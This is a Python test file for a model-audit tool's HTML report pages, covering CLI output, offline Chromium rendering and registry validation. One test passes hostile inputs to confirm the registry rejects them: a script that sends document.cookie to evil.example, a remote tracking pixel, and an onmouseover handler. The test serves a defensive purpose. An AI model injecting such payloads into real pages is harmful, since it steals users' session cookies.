"""Every audit's HTML page, end to end: the estimator renders it, the registry stores it beside
the report, `lambdascope report ID --html` writes it, and headless Chromium with the network off
shows every plot with no console error (issue 14's acceptance)."""
from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys

import grpc
import pytest
from PIL import Image

from lambdascope.reports import MAX_PAGE_BYTES
from lambdascope.v1 import audit_pb2, registry_pb2
from tests import browser

needs_chromium = pytest.mark.skipif(
    browser.executable() is None,
    reason="no Chromium here and it could not be installed (scripts/ensure_chromium.sh says why)")


def _cli(platform, tmp_path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "LAMBDASCOPE_HOME": str(tmp_path), "LAMBDASCOPE_API_KEY": platform.api_key}
    return subprocess.run([sys.executable, "-m", "lambdascope.cli", *args, "--server", platform.endpoints["registry"]],
                          capture_output=True, text=True, timeout=300, env=env)


@pytest.fixture(scope="module")
def audited(platform, regression_files, tmp_path_factory):
    """A real audit through the CLI (calibrated step, per-layer LLC), with its JSON report."""
    tmp = tmp_path_factory.mktemp("pages")
    model_path, data_path = regression_files
    out = tmp / "report.json"
    result = _cli(platform, tmp, "audit", "--model", str(model_path), "--data", str(data_path), "--loss", "mse",
                  "--chains", "2", "--draws", "150", "--burnin", "100", "--per-layer", "--seed", "5",
                  "--json", str(out), "--html", str(tmp / "from-audit.html"))
    assert result.returncode == 0, result.stderr
    return json.loads(out.read_text()), tmp


def _img_count(page: str) -> int:
    return len(re.findall(r"<img ", page))


def _assert_shown(page_path, rendered: browser.Rendered, expected_images: int) -> None:
    assert rendered.errors == [], rendered.errors
    assert rendered.requests == [], rendered.requests  # nothing fetched: the network was off anyway
    assert len(rendered.images) == expected_images
    for image in rendered.images:  # decoded: a broken or blocked image has no natural size
        assert image["complete"] and image["naturalWidth"] > 200 and image["naturalHeight"] > 100, image
    shot = Image.open(io.BytesIO(rendered.screenshot)).convert("L")
    assert shot.height > 1500  # the whole page, not the first screen
    low, high = shot.getextrema()
    assert high - low > 200  # drawn: dark text and lines on white


def test_the_stored_page_is_what_report_html_writes(platform, audited):
    report, tmp = audited
    with platform.client() as client:
        stored = client.get_report_page(report["id"]).decode()
    assert stored.startswith("<!DOCTYPE html>") and _img_count(stored) == 5  # calibration and per-layer bars too
    result = _cli(platform, tmp, "report", report["id"], "--html", str(tmp / "page.html"))
    assert result.returncode == 0, result.stderr
    assert (tmp / "page.html").read_text() == stored
    assert "verdict" in stored and report["model_version_id"] in stored


@needs_chromium
def test_chromium_shows_every_plot_of_the_stored_page_offline(platform, audited):
    report, tmp = audited
    page = tmp / "shown.html"
    with platform.client() as client:
        page.write_bytes(client.get_report_page(report["id"]))
    rendered = browser.render(page)
    _assert_shown(page, rendered, _img_count(page.read_text()))
    assert rendered.title.startswith("lambdascope audit")


@pytest.fixture(scope="module")
def second(platform, audited, regression_files):
    """A second audit of the same model, at another nβ (compare must say so)."""
    _, tmp = audited
    model_path, data_path = regression_files
    out = tmp / "second.json"
    result = _cli(platform, tmp, "audit", "--model", str(model_path), "--data", str(data_path), "--loss", "mse",
                  "--chains", "2", "--draws", "150", "--burnin", "100", "--seed", "6", "--nbeta", "50",
                  "--json", str(out))
    assert result.returncode == 0, result.stderr
    return json.loads(out.read_text())


def test_report_with_several_ids_reads_them_as_a_trajectory(platform, audited, second):
    report, tmp = audited
    result = _cli(platform, tmp, "report", second["id"], report["id"], "--json", str(tmp / "traj.json"),
                  "--html", str(tmp / "traj.html"))
    assert result.returncode == 0, result.stderr
    body = json.loads((tmp / "traj.json").read_text())
    assert [p["model_version_id"] for p in body["trajectory"]] == [report["model_version_id"]] * 2
    assert body["stages"] == []  # two points are no curve
    assert _img_count((tmp / "traj.html").read_text()) == 1
    assert "LLC over training" in (tmp / "traj.html").read_text()


@needs_chromium
def test_chromium_shows_the_compare_and_audit_pages_the_cli_writes(platform, audited, second):
    report, tmp = audited
    result = _cli(platform, tmp, "compare", report["id"], second["id"], "--html", str(tmp / "compare.html"))
    assert result.returncode == 0, result.stderr
    assert "permutation p = " in result.stdout and "warning: different nβ" in result.stdout
    for name in ("compare.html", "from-audit.html"):
        path = tmp / name
        text = path.read_text()
        rendered = browser.render(path)
        assert rendered.errors == [] and rendered.requests == []
        assert len(rendered.images) == _img_count(text) >= 1
        assert all(i["complete"] and i["naturalWidth"] > 200 for i in rendered.images)
    assert "different nβ" in (tmp / "compare.html").read_text()


@needs_chromium
def test_the_browser_check_catches_a_page_that_fetches_or_breaks(tmp_path):
    """The harness itself: a remote image, a broken inline one and a script error are all seen."""
    page = tmp_path / "bad.html"
    page.write_text('<!DOCTYPE html><html><body><img src="http://example.com/a.png">'
                    '<img src="data:image/png;base64,AAAA"><script>nosuchfunction()</script></body></html>')
    rendered = browser.render(page)
    assert rendered.requests == ["http://example.com/a.png"]
    assert any("nosuchfunction" in e for e in rendered.errors)
    assert [i["naturalWidth"] for i in rendered.images] == [0, 0]


def test_a_report_stored_without_a_page_is_rendered_by_the_cli(platform, audited, tmp_path):
    report, _ = audited
    with platform.client() as client:
        stored = client.get_report(report["id"])
        bare = audit_pb2.AuditReport()
        bare.CopyFrom(stored)
        bare.id = ""
        plain = client.put_report(bare)  # an older estimator's way: no page
        with pytest.raises(grpc.RpcError) as err:
            client.get_report_page(plain.id)
        assert err.value.code() == grpc.StatusCode.NOT_FOUND and "has no HTML page" in err.value.details()
    result = _cli(platform, tmp_path, "report", plain.id, "--html", str(tmp_path / "local.html"))
    assert result.returncode == 0, result.stderr
    assert _img_count((tmp_path / "local.html").read_text()) == 5


def test_the_registry_refuses_an_oversized_page_and_stores_nothing(platform, audited):
    report, _ = audited
    with platform.client() as client:
        stored = client.get_report(report["id"])
        before = len(list(client.list_reports(stored.model_version_id)))
        bare = audit_pb2.AuditReport()
        bare.CopyFrom(stored)
        bare.id = ""
        with pytest.raises(grpc.RpcError) as err:
            client.put_report(bare, b"x" * (MAX_PAGE_BYTES + 1))
        assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT and "at most" in err.value.details()
        assert len(list(client.list_reports(stored.model_version_id))) == before
        with pytest.raises(grpc.RpcError) as err:
            client.registry.GetReportPage(registry_pb2.GetReportRequest(), timeout=10)
        assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT


def test_the_registry_refuses_a_page_that_would_run_or_fetch_and_stores_nothing(platform, audited):
    """A writer key (or a worker's credential) cannot store a page that runs a script in the
    browser of the teammate who opens it: only what lambdascope's renderer writes is kept."""
    report, _ = audited
    with platform.client() as client:
        stored = client.get_report(report["id"])
        page = client.get_report_page(stored.id)
        before = len(list(client.list_reports(stored.model_version_id)))
        bare = audit_pb2.AuditReport()
        bare.CopyFrom(stored)
        bare.id = ""
        for hostile, says in (("<script>fetch('https://evil.example/?'+document.cookie)</script>", "<script>"),
                              ('<img src="https://evil.example/pixel.png">', "inline PNG"),
                              ('<p onmouseover="alert(1)">hover</p>', "onmouseover")):
            with pytest.raises(grpc.RpcError) as err:
                client.put_report(bare, page.replace(b"<body>", b"<body>" + hostile.encode(), 1))
            assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT and says in err.value.details()
        assert len(list(client.list_reports(stored.model_version_id))) == before
        kept = client.put_report(bare, page)  # the page the estimator wrote passes as it is
        assert client.get_report_page(kept.id) == page
